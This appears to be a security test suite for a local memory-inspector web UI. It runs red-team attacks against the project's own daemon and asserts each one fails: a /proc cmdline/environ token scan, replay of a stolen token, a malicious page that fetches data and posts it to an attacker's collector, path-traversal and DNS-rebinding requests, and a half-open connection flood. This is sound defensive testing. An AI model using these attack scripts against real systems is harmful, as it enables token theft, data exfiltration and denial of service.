"""The memory inspector as a trust boundary (DESIGN §16, issue 28): the red team's attacks, run.

- another local user reads every process's arguments (``/proc/*/cmdline``) while ``chrysalis
  ui`` opens a browser: no sign-in token there; a token works once and expires;
- a page on another port of 127.0.0.1, opened in the owner's real Chromium after the owner
  signed in, gets nothing: no cookie reaches its server, its fetches to the inspector fail, so
  it can neither export the memory nor make ingest read the owner's files;
- the inspector serves its own few routes only, with the ``/v1/m/NAME/`` prefix normalised
  first: ingest, import, export, memory create/drop and ``/v1/ui`` are refused to a signed-in
  page too;
- ~1,100 half-sent requests on the inspector's port (the daemon held to 1,024 descriptors, as
  a systemd user unit gets) do not stop the owner's socket API; over the cap they are closed
  at once, the rest after the header timeout; a stalled body is dropped after the body
  timeout;
- its port accepts connections as soon as ``POST /v1/ui`` has answered.

The second user is real (``useradd``, as in test_socket_owner); the browser is Debian's
chromium driven by Playwright, as in test_inspector.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import pwd
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from chrysalis.client.routes import Routes

from .daemon_process import DaemonProcess, DaemonThread
from .test_socket_owner import SYSTEM_PYTHON, as_user, mallory, shared

__all__ = ["mallory", "shared"]  # fixtures, used by name

SECRET = "the vault combination is 31-17-42"
SESSION_META = re.compile(r'<meta name="chrysalis-session" content="([^"]+)"')


# ---- helpers ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DaemonProcess]:
    root = tmp_path_factory.mktemp("inspector-attacks")
    d = DaemonThread(root / "data").start()
    with d.client() as c:
        c.remember("the lantern hangs in the harbour office", session_id="morning", id="lantern")
        c.create_memory("team")
    yield d
    d.stop()
    d.close()


@pytest.fixture(scope="module")
def owners_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file only its owner may read: what the red team made ingest read back."""
    path = tmp_path_factory.mktemp("owner") / "vault.txt"
    path.write_text(SECRET + "\n")
    path.chmod(0o600)
    return path


def sign_in_address(d: DaemonProcess) -> str:
    """A fresh sign-in address, as ``chrysalis ui --no-browser`` prints it."""
    out = d.cli("ui", "--no-browser", "--json")
    assert out.returncode == 0, out.stderr
    url: str = json.loads(out.stdout)["url"]
    return url


@contextlib.contextmanager
def signed_in(url: str) -> Iterator[httpx.Client]:
    """A client holding whatever signing in with ``url`` grants (a cookie, a session)."""
    with httpx.Client(timeout=10.0, follow_redirects=True) as client:
        r = client.get(url)
        assert r.status_code == 200, r.text
        found = SESSION_META.search(r.text)
        if found:
            client.headers["X-Chrysalis-Session"] = found.group(1)
        yield client


def base_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def memory_holds(d: DaemonProcess, text: str) -> bool:
    with httpx.Client(transport=httpx.HTTPTransport(uds=str(d.socket)), timeout=10.0) as raw:
        return text in raw.get("http://chrysalis/v1/export").text


# ---- 1. the token: not in any process's arguments, once, short-lived ----------------------

BROWSER = """#!/bin/sh
# a browser that notes what it was given, and stays up a while (as a real one would)
printf '%s\\n' "$@" > {argv}
env > {env}
sleep 3
"""

SCAN = r"""
import json, os, sys
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seen.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen.append(f.read().decode(errors="replace"))
        except OSError:
            pass
with open(sys.argv[1], "w") as f:
    json.dump(seen, f)
"""


def test_another_user_finds_no_token_in_the_browser_opening_processes(
    daemon: DaemonProcess, mallory: pwd.struct_passwd, shared: Path, tmp_path: Path
) -> None:
    browser = tmp_path / "browser.sh"
    argv_log, env_log = tmp_path / "browser-argv", tmp_path / "browser-env"
    browser.write_text(BROWSER.format(argv=argv_log, env=env_log))
    browser.chmod(0o700)
    cli = subprocess.Popen(
        [sys.executable, "-m", "chrysalisd", "ui"],
        env={**daemon.env, "BROWSER": str(browser)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while not env_log.exists() or not env_log.read_text():
        assert cli.poll() is None or env_log.exists(), cli.communicate()
        assert time.monotonic() < deadline, "the browser was not started"
        time.sleep(0.05)
    # while the browser runs, mallory reads every process's arguments it can
    seen_file = shared / "seen.json"
    scan = as_user(mallory, SYSTEM_PYTHON, "-I", "-c", SCAN, str(seen_file))
    assert scan.wait(30) == 0
    out, err = cli.communicate(timeout=30)
    assert cli.returncode == 0, err
    seen = "\n".join(json.loads(seen_file.read_text()))

    given = argv_log.read_text().split()
    assert len(given) == 1, given
    token = _token_of(given[0])
    assert len(token) >= 32
    assert token not in seen, "another user read the sign-in token from a process's arguments"
    assert "token" not in given[0], given  # the browser gets a file, not an address
    assert "token=" not in seen
    assert token not in env_log.read_text() and token not in out and token not in err
    assert token not in daemon.output()  # nor logged
    # the file holding it is the owner's alone
    page = Path(urlsplit(given[0]).path)
    assert page.stat().st_mode & 0o777 == 0o600 and page.parent.stat().st_mode & 0o777 == 0o700
    read = as_user(
        mallory, SYSTEM_PYTHON, "-I", "-c", f"open({str(page)!r}).read()", stderr=subprocess.PIPE
    )
    _, why = read.communicate(timeout=30)
    assert read.returncode != 0 and b"PermissionError" in why


def _token_of(given: str) -> str:
    """The sign-in token in what the browser was given: an address, or a page that posts it."""
    parts = urlsplit(given)
    if "token=" in parts.query:
        return parts.query.split("token=", 1)[1].split("&")[0]
    text = Path(parts.path).read_text()
    found = re.search(r'name="token" value="([^"]+)"', text)
    assert found, text
    return found.group(1)


# Another user with a sign-in address: trade it, keep whatever it grants, read the beads.
TRADE = r"""
import json, re, sys, urllib.error, urllib.request
class Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kw):
        return None
opener = urllib.request.build_opener(Stay)
def get(url, headers):
    try:
        with opener.open(urllib.request.Request(url, headers=headers), timeout=10) as r:
            return r.status, r.headers, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read().decode()
    except (OSError, urllib.error.URLError) as e:  # the connection closed: no answer at all
        return 0, {}, type(e).__name__
status, headers, body = get(sys.argv[1], {})
grant = {}
if headers.get("Set-Cookie"):
    grant["Cookie"] = headers["Set-Cookie"].split(";")[0]
found = re.search(r'name="chrysalis-session" content="([^"]+)"', body)
if found:
    grant["X-Chrysalis-Session"] = found.group(1)
api, _, beads = get(sys.argv[2] + "/api/v1/beads", grant)
print(json.dumps({"trade": status, "said": body[:300], "api": api, "beads": beads[:300]}))
"""


def test_a_sign_in_token_works_once(daemon: DaemonProcess) -> None:
    url = sign_in_address(daemon)
    with signed_in(url) as owner:
        assert owner.get(base_of(url) + "/api/v1/status").status_code == 200
    # the same address again, by a process that saw it (over a shoulder, in a history)
    proc = subprocess.Popen(
        [SYSTEM_PYTHON, "-I", "-c", TRADE, url, base_of(url)], stdout=subprocess.PIPE
    )
    out, _ = proc.communicate(timeout=30)
    got = json.loads(out)
    assert "lantern" not in got["beads"], "a used sign-in was traded again and read the beads"
    assert got["trade"] == 401 and got["api"] == 401, got
    assert "used already" in got["said"] and "chrysalis ui" in got["said"], got
    assert sign_in_address(daemon) != sign_in_address(daemon)  # each call mints its own


def test_another_users_connection_is_closed_before_a_byte_is_read(
    daemon: DaemonProcess, mallory: pwd.struct_passwd
) -> None:
    """Even holding a fresh token (seen over a shoulder), another user gets no answer: the
    kernel says who owns the far end of each loopback connection."""
    url = sign_in_address(daemon)
    proc = as_user(
        mallory, SYSTEM_PYTHON, "-I", "-c", TRADE, url, base_of(url), stdout=subprocess.PIPE
    )
    out, _ = proc.communicate(timeout=30)
    got = json.loads(out)
    assert "lantern" not in got["beads"], "another user traded a fresh token and read the beads"
    assert got["trade"] == 0 and got["api"] == 0, got  # no HTTP answer at all
    with signed_in(url) as owner:  # the token was never spent: the owner still signs in
        assert owner.get(base_of(url) + "/api/v1/beads").status_code == 200


def test_a_sign_in_token_expires() -> None:
    from chrysalisd.inspector import TOKEN_TTL, Inspector

    async def api(scope: Any, receive: Any, send: Any) -> None:
        raise AssertionError("an expired token reached the API")

    now = [1000.0]
    app = Inspector(api, 4242, clock=lambda: now[0])
    token = app.mint()
    now[0] += TOKEN_TTL + 1

    async def trade() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:4242") as c:
            return await c.post("/signin", data={"token": token})

    r = asyncio.run(trade())
    assert r.status_code == 401
    assert "expired" in r.json()["error"]["message"]
    assert "chrysalis ui" in r.json()["error"]["message"]
    assert "chrysalis-session" not in r.text and "set-cookie" not in r.headers


# ---- 2. a page on another port of 127.0.0.1 -------------------------------------------------

# Mallory's web server: serves the attack page and logs every request's headers (the cookie
# a browser sends to any port of 127.0.0.1 would show here).
EVIL_SERVER = r"""
import http.server, json, sys
log, portfile, page = sys.argv[1], sys.argv[2], sys.argv[3]
class H(http.server.BaseHTTPRequestHandler):
    def note(self, body=b""):
        with open(log, "a") as f:
            f.write(json.dumps({"path": self.path, "headers": dict(self.headers),
                                "body": body.decode(errors="replace")}) + "\n")
    def do_GET(self):
        self.note()
        data = open(page, "rb").read()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def do_POST(self):
        self.note(self.rfile.read(int(self.headers.get("content-length", 0))))
        self.send_response(204)
        self.end_headers()
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
with open(portfile, "w") as f:
    f.write(str(srv.server_port))
srv.serve_forever()
"""

EVIL_PAGE = """<!doctype html><title>a page</title>
<script type="module">
const q = new URLSearchParams(location.search);
const base = "http://127.0.0.1:" + q.get("inspector");
const out = {};
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, init);
    out[name] = "status " + r.status + " " + (await r.text()).slice(0, 300);
  } catch (e) { out[name] = "blocked: " + e; }
}
await attempt("export", base + "/api/v1/export", { credentials: "include" });
await attempt("export with a header", base + "/api/v1/export",
  { credentials: "include", headers: { "X-Chrysalis-Session": "a guess" } });
await attempt("ingest", base + "/api/v1/ingest", { method: "POST", mode: "no-cors",
  credentials: "include", headers: { "content-type": "text/plain" },
  body: JSON.stringify({ path: q.get("path") }) });
await fetch("/collect", { method: "POST", body: JSON.stringify(out) });
document.title = "done";
</script>"""


def test_a_page_on_another_port_gets_nothing(
    daemon: DaemonProcess, mallory: pwd.struct_passwd, shared: Path, owners_file: Path
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    from .test_inspector import CHROMIUM, CHROMIUM_ARGS, TIMEOUT_MS  # skipped without playwright

    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (.ci/run installs it)")
    log, portfile, page_file = shared / "evil.log", shared / "evil.port", shared / "evil.html"
    page_file.write_text(EVIL_PAGE)
    page_file.chmod(0o644)
    server = as_user(mallory, SYSTEM_PYTHON, "-I", "-c", EVIL_SERVER, str(log), str(portfile),
                     str(page_file))  # fmt: skip
    try:
        deadline = time.monotonic() + 20
        while not portfile.exists() or not portfile.read_text():
            assert server.poll() is None and time.monotonic() < deadline, "no evil server"
            time.sleep(0.05)
        evil_port = int(portfile.read_text())
        address = sign_in_address(daemon)
        port = urlsplit(address).port
        with sync_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            context = browser.new_context()
            page = context.new_page()
            page.set_default_timeout(TIMEOUT_MS)
            page.goto(address)  # the owner signs in and uses the inspector
            page.wait_for_selector('main[data-ready="timeline"]')
            assert page.locator('.bead[data-id="lantern"]').count() == 1
            # then, in the same browser, visits the other user's page
            evil = context.new_page()
            evil.set_default_timeout(TIMEOUT_MS)
            evil.goto(f"http://127.0.0.1:{evil_port}/?inspector={port}&path={owners_file}")
            evil.wait_for_function("document.title === 'done'")
            context.close()
            browser.close()
    finally:
        server.kill()
        server.wait()
    requests = [json.loads(line) for line in log.read_text().splitlines()]
    cookies = [r["headers"].get("Cookie", "") for r in requests]
    assert not any(cookies), f"the owner's browser sent {cookies} to another user's port"
    tried = json.loads(next(r["body"] for r in requests if r["path"] == "/collect"))
    assert len(tried) == 3
    for name, outcome in tried.items():
        assert not outcome.startswith("status 2"), (name, outcome)
        assert SECRET not in outcome and "lantern" not in outcome, (name, outcome)
    # and what mallory's server saw, replayed from anywhere, opens nothing
    base = f"http://127.0.0.1:{port}"
    with httpx.Client(timeout=10.0) as replay:
        for header in [*cookies, "chrysalis_ui=x"]:
            r = replay.get(base + "/api/v1/export", headers={"Cookie": header})
            assert r.status_code == 401, r.text[:200]
            r = replay.post(
                base + "/api/v1/ingest", json={"path": str(owners_file)}, headers={"Cookie": header}
            )
            assert r.status_code == 401 and SECRET not in r.text
    assert not memory_holds(daemon, SECRET)


# ---- 3. the inspector's routes, and nothing else -------------------------------------------

REFUSED = [
    ("POST", "/api/v1/ingest", {"path": "OWNERS_FILE"}),
    ("POST", "/api/v1/ingest", {"text": SECRET}),
    ("POST", "/api/v1/m/default/ingest", {"path": "OWNERS_FILE"}),
    ("POST", "/api/v1/m/team/ingest", {"path": "OWNERS_FILE"}),
    ("GET", "/api/v1/export", None),
    ("GET", "/api/v1/m/default/export", None),
    ("POST", "/api/v1/import", None),
    ("POST", "/api/v1/memories", {"name": "planted"}),
    ("DELETE", "/api/v1/memories/team", None),
    ("POST", "/api/v1/ui", None),
    ("POST", "/api/v1/m/default/ui", None),
    ("POST", "/api/v1/m/team/ui", None),
    ("POST", "/api/v1/beads", {"content": SECRET}),
    ("POST", "/api/v1/sync", None),
    ("PUT", "/api/v1/persona", {"name": "planted"}),
    ("GET", "/api/v1/doctor", None),
    ("GET", "/api/metrics", None),
    ("GET", "/api/v1/beads/..%2Fexport", None),
    ("GET", "/api/v1/kg/nodes/..%2F..%2Fexport/edges", None),
    ("POST", "/api/v1/kg/graph/draw", None),
    ("HEAD", "/api/v1/status", None),
]
ALLOWED = [
    ("GET", "/api/v1/memories", None),
    ("GET", "/api/v1/status", None),
    ("GET", "/api/v1/m/team/status", None),
    ("GET", "/api/v1/beads?limit=5", None),
    ("GET", "/api/v1/beads/lantern", None),
    ("GET", "/api/v1/m/default/beads/lantern", None),
    ("POST", "/api/v1/retrieve", {"query": "lantern", "k": 3}),
    ("POST", "/api/v1/m/team/retrieve", {"query": "lantern", "k": 3}),
    ("GET", "/api/v1/kg/graph", None),
    ("GET", "/api/v1/kg/graph/draw?limit=50", None),
    ("GET", "/api/v1/m/team/kg/graph/draw", None),
]


def test_only_the_inspectors_routes_even_when_signed_in(
    daemon: DaemonProcess, owners_file: Path
) -> None:
    url = sign_in_address(daemon)
    base = base_of(url)
    before = daemon.once("status")["counts"]["beads"]
    with signed_in(url) as me:
        for method, path, body in ALLOWED:
            r = me.request(method, base + path, json=body)
            assert r.status_code == 200, (method, path, r.text)
        for method, path, body in REFUSED:
            if body and body.get("path") == "OWNERS_FILE":
                body = {"path": str(owners_file)}
            r = me.request(method, base + path, json=body)
            assert r.status_code in (403, 404), (method, path, r.status_code, r.text[:200])
            if method != "HEAD":
                message = r.json()["error"]["message"]
                assert "the inspector" in message, (path, message)
            assert SECRET not in r.text and "token" not in r.text, (path, r.text[:200])
        # a forget and its receipt: the one change the inspector makes
        daemon.once("remember", "forget me from the page", id="doomed")
        assert me.delete(base + "/api/v1/beads/doomed").status_code == 204
        assert me.get(base + "/api/v1/forget/doomed").status_code == 200
    assert daemon.once("status")["counts"]["beads"] == before
    assert not memory_holds(daemon, SECRET)
    names = [m["name"] for m in daemon.once("raw", Routes.memories)["memories"]]
    assert names == ["default", "team"]


def test_the_graph_routes_answer_the_signed_in_page_only(daemon: DaemonProcess) -> None:
    """The compact drawing and a node's facts (issue 34): no session, another origin, another
    host name (DNS rebinding) or a preflight get nothing; the page gets them with the
    inspector's headers, and its 304s pass through."""
    with daemon.client() as c:
        c.add_fact("Harbour office", "keeps", "the brass lantern")
    url = sign_in_address(daemon)
    base = base_of(url)
    port = urlsplit(url).port
    paths = ["/api/v1/kg/graph/draw", "/api/v1/kg/nodes/harbour-office/edges"]
    with httpx.Client(timeout=10.0) as stranger:
        for path in paths:
            r = stranger.get(base + path)
            assert r.status_code == 401 and "lantern" not in r.text, r.text
    with signed_in(url) as me:
        for path in paths:
            good = me.get(base + path)
            assert good.status_code == 200 and "lantern" in good.text, good.text
            assert good.headers["content-security-policy"].startswith("default-src 'self'")
            assert good.headers["cache-control"] == "no-store"
            assert not any(k.lower().startswith("access-control-") for k in good.headers)
            for origin in [f"http://127.0.0.1:{port + 1}", "null", "https://evil.example"]:
                r = me.get(base + path, headers={"Origin": origin})
                assert r.status_code == 403 and "lantern" not in r.text, (origin, r.text)
            rebound = me.get(base + path, headers={"Host": f"evil.example:{port}"})
            assert rebound.status_code == 403 and "lantern" not in rebound.text
            preflight = me.options(
                base + path,
                headers={"Origin": f"http://127.0.0.1:{port + 1}",
                         "Access-Control-Request-Method": "GET",
                         "Access-Control-Request-Headers": "x-chrysalis-session"},
            )  # fmt: skip
            assert preflight.status_code >= 400
            assert not any(k.lower().startswith("access-control-") for k in preflight.headers)
        drawn = me.get(base + paths[0])
        same = me.get(base + paths[0], headers={"If-None-Match": drawn.headers["etag"]})
        assert same.status_code == 304 and same.content == b""


# ---- 4. a bounded listener ----------------------------------------------------------------

HOLD = r"""
import json, selectors, socket, sys, time
port, n, out, patience = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
sel = selectors.DefaultSelector()
opened, timed_out, slowest = {}, [], 0.0
def watch(timeout):
    for key, _ in sel.select(timeout=timeout):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data or b" 408 " in data:
            began = opened.pop(s)
            if b" 408 " in data:
                timed_out.append(time.monotonic() - began)
            sel.unregister(s)
            s.close()
first = time.monotonic()
for i in range(n):
    began = time.monotonic()
    s = socket.create_connection(("127.0.0.1", port), timeout=30)
    slowest = max(slowest, time.monotonic() - began)
    opened[s] = time.monotonic()
    try:
        s.sendall(b"GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % port)  # no end
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
    except OSError:
        del opened[s]
        s.close()
    watch(0)
connecting = time.monotonic() - first
with open(out + ".ready", "w") as f:
    f.write("ready")
ready, snapshots = time.monotonic(), {}
while opened and time.monotonic() - ready < patience:
    watch(0.05)
    if "0.5" not in snapshots and time.monotonic() - ready >= 0.5:
        snapshots["0.5"] = len(opened)
with open(out, "w") as f:
    json.dump({"open_after_0.5s": snapshots.get("0.5", 0),
               "all_closed_after": time.monotonic() - ready, "still_open": len(opened),
               "timed_out": timed_out, "slowest_connect": slowest, "connecting": connecting}, f)
"""
HALF_OPEN = 1100


@pytest.mark.parametrize("holder_is", ["another user", "the owner"])
def test_half_sent_requests_do_not_starve_the_socket_api(
    tmp_path: Path, mallory: pwd.struct_passwd, shared: Path, holder_is: str
) -> None:
    from chrysalisd.inspector import HEADER_TIMEOUT, MAX_CONNECTIONS

    if shutil.which("prlimit") is None:
        pytest.skip("no prlimit (util-linux) to hold the daemon to 1,024 descriptors")
    d = DaemonProcess(tmp_path / "data").start()
    try:
        assert d.proc is not None
        # what a systemd user unit gets (soft 1,024), and no way to raise it
        subprocess.run(
            ["prlimit", f"--pid={d.proc.pid}", "--nofile=1024:1024"], check=True, timeout=10
        )
        port = d.once("raw", Routes.ui)["port"]
        out = shared / "hold.json"
        hold = [SYSTEM_PYTHON, "-I", "-c", HOLD, str(port), str(HALF_OPEN), str(out),
                str(HEADER_TIMEOUT + 20)]  # fmt: skip
        holder = as_user(mallory, *hold) if holder_is == "another user" else subprocess.Popen(hold)
        deadline = time.monotonic() + 180  # 1,100 connects take long on a loaded machine
        while not Path(str(out) + ".ready").exists():
            assert holder.poll() is None and time.monotonic() < deadline, "the holder failed"
            time.sleep(0.05)
        # the owner's API, on the Unix socket, answers as ever while they are held
        # (within the client's 10 s timeout: how soon depends on how fast a loaded machine
        # gets through the accepts queued before the request, 5 s at load 10, not on the
        # flood; a starved API would answer once the holder lets go, HEADER_TIMEOUT + 20 s)
        with d.client(timeout=10.0) as c:
            c.remember("written while the inspector's port is flooded", id="flooded")
            assert c.get_bead("flooded").content.startswith("written while")
        assert holder.wait(90) == 0
        held = json.loads(out.read_text())
        # Time bounds leave room for a loaded machine; what the daemon did is in the counts:
        # a 408 means it read the connection's bytes and waited out the header timeout.
        if holder_is == "another user":  # every one closed before a byte was read: none
            # waited for the header timeout (a 408 would say it was read); how soon the
            # daemon gets through 1,100 accepts depends on the machine's load
            assert held["timed_out"] == [] and held["still_open"] == 0, held
            assert held["all_closed_after"] < HEADER_TIMEOUT + 10, held
            return
        # the owner's own runaway process: over the cap, closed at once; the cap's few
        # dropped when their headers never end
        # at most the cap at a time: when connecting outlasts the header timeout (a loaded
        # machine), the cap's first few time out and as many more are let in
        rounds = 1 + int(held["connecting"] // (HEADER_TIMEOUT - 0.5))
        assert 0 < len(held["timed_out"]) <= MAX_CONNECTIONS * rounds, held
        assert held["still_open"] == 0, held
        assert held["all_closed_after"] <= HEADER_TIMEOUT + 10, held
        # the cap's few were held until their headers' time was up, and told so (408)
        assert held["timed_out"] and min(held["timed_out"]) >= HEADER_TIMEOUT - 0.5, held
    finally:
        if "holder" in locals() and holder.poll() is None:  # a failure above: not left running
            holder.kill()
            holder.wait()
        d.stop()
        d.close()


def test_a_stalled_body_is_dropped(daemon: DaemonProcess) -> None:
    from chrysalisd.inspector import BODY_TIMEOUT

    url = sign_in_address(daemon)
    with signed_in(url) as me:
        session = me.headers.get("X-Chrysalis-Session", "")
    port = urlsplit(url).port
    assert port is not None
    with socket.create_connection(("127.0.0.1", port), timeout=BODY_TIMEOUT + 5) as s:
        s.sendall(
            b"POST /api/v1/retrieve HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: 1000\r\n"
            b"X-Chrysalis-Session: %s\r\ncontent-type: application/json\r\n\r\n"
            b'{"query": "' % (port, session.encode())
        )
        started = time.monotonic()
        answer = s.recv(4096)
        waited = time.monotonic() - started
    assert BODY_TIMEOUT - 1 <= waited <= BODY_TIMEOUT + 3, waited
    assert answer.startswith(b"HTTP/1.1 408"), answer


def test_a_body_over_the_cap_is_refused(daemon: DaemonProcess) -> None:
    from chrysalisd.inspector import MAX_BODY

    url = sign_in_address(daemon)
    with signed_in(url) as me:
        r = me.post(base_of(url) + "/api/v1/retrieve", json={"query": "x" * MAX_BODY, "k": 1})
    assert r.status_code == 413 and "bytes" in r.json()["error"]["message"]


# ---- 5. ready before its address is answered ------------------------------------------------


def test_the_port_accepts_as_soon_as_the_address_is_answered(tmp_path: Path) -> None:
    d = DaemonThread(tmp_path / "data")
    refused = 0
    try:
        for _ in range(6):
            d.start()
            port = d.once("raw", Routes.ui)["port"]
            try:
                socket.create_connection(("127.0.0.1", port), timeout=2).close()
            except ConnectionRefusedError:
                refused += 1
            assert d.stop() == 0
    finally:
        d.close()
    assert refused == 0, f"the first connection was refused in {refused} of 6 starts"


def test_the_daemon_raises_its_descriptor_limit(tmp_path: Path) -> None:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard <= 1024:
        pytest.skip("the hard limit leaves nothing to raise")
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, hard))  # the daemon inherits it
    try:
        d = DaemonProcess(tmp_path / "data").start()
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    try:
        assert d.proc is not None
        limits = Path(f"/proc/{d.proc.pid}/limits").read_text()
        row = next(line for line in limits.splitlines() if line.startswith("Max open files"))
        assert row.split()[3:5] == [str(hard), str(hard)], row
    finally:
        d.stop()
        d.close()
